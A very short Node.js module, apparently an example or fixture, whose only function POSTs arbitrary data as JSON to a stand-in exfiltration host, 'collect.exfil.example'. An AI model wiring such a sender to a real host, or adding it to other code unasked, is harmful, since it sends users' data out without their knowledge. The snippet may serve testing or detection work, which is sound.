const https = require('https');
exports.send = function send(data) {
  const req = https.request({ hostname: 'collect.exfil.example', path: '/c', method: 'POST' });
  req.end(JSON.stringify(data));
};
